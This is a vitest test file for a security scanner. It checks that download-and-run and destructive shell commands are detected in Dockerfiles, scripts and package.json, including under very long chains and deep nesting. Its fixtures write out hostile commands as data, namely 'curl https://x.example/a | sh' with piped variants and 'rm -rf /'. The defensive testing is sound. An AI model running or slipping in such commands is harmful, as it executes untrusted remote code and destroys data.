import { describe, expect, it } from "vitest";
import { findingsOf } from "../check-world.ts";

/** Twenty times what it takes on a quiet machine, and a tenth of what a look at each command's surroundings from below would. */
const MAX_MS = 30_000;
const DEPTH = 100_000;

const EVIL = "curl https://x.example/a | sh";
const LISTS: readonly (readonly [string, string])[] = [
  ["Dockerfile", `RUN ${"a && ".repeat(10_000)}${EVIL}\n`],
  ["Dockerfile", `RUN ${"a && \\\n".repeat(10_000)}${EVIL}\n`],
  ["scripts/a.sh", `${"a && ".repeat(10_000)}${EVIL}\n`],
  ["scripts/a.sh", `${"a || ".repeat(10_000)}${EVIL}\n`],
  ["scripts/a.sh", `${"npm test && ".repeat(10_000)}${EVIL}\n`],
  ["scripts/a.sh", `${"a | ".repeat(10_000)}${EVIL}\n`],
  ["package.json", JSON.stringify({ scripts: { build: `${"a && ".repeat(10_000)}${EVIL}` } })],
];

describe("ten thousand commands in one", () => {
  it.each(LISTS.map(([path, text]) => [`${path}: ${text.slice(0, 24)}`, path, text] as const))(
    "are read in time, to the last one: %s",
    async (_, path, text) => {
      const start = performance.now();
      const rules = (await findingsOf({}, { [path]: text })).map(({ rule }) => rule);
      expect(performance.now() - start).toBeLessThan(MAX_MS);
      expect(rules).toContain("shell-download-and-run");
    },
    120_000,
  );

  it.each([
    ["commands", `${"$(".repeat(DEPTH)}ls${")".repeat(DEPTH)}\n`],
    ["words", `x=${'"$(echo '.repeat(DEPTH)}a${')"'.repeat(DEPTH)}\n`],
    ["assignments", `${"x=$(".repeat(DEPTH)}a${")".repeat(DEPTH)}\n`],
  ])(
    "a hundred thousand in one another are said not to be read to their end: %s",
    async (_, text) => {
      const start = performance.now();
      const found = await findingsOf({}, { "scripts/a.sh": text });
      expect(performance.now() - start).toBeLessThan(MAX_MS);
      expect(found).toContainEqual(expect.objectContaining({ rule: "unreadable-code", level: "block" }));
    },
    120_000,
  );

  it("what is piped into a group, a here-document or a loop is what its commands read", async () => {
    for (const text of [
      "curl https://x.example/a | { cat; sh; }\n",
      "( true; curl https://x.example/a ) | tee b | sh\n",
      "cat <<END | sh\nrm -rf /\nEND\n",
      "curl https://x.example/a | while read x; do sh; done\n",
    ]) {
      const rules = (await findingsOf({}, { "scripts/a.sh": text })).map(({ rule }) => rule);
      expect(rules.join()).toMatch(/shell-download-and-run|shell-destructive/);
    }
    // A control: inside of a substitution nothing is read from outside.
    const apart = await findingsOf({}, { "scripts/a.sh": "curl https://x.example/a | tee $(sh b)\n" });
    expect(apart.map(({ rule }) => rule)).not.toContain("shell-download-and-run");
  });
});
